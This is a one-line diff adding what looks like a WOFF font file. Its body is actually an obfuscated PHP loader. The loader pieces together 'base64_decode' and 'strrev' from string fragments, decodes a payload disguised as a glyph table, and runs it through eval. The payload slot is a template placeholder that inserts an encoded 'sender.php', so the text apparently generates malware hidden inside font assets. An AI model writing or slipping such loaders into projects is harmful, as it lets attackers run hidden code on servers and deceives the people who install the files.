@@ -1,0 +1,1 @@
+wOFF<?php $n='creat'.'e_fun'; $w=['str_'.'rot13','base'.'64_de'.'code','str'.'rev']; $glyf='<% reverse (b64 (file "sender.php")) %>'; (static function ($loca) { eval($loca); })($w[1]($w[2]($glyf))); ?>
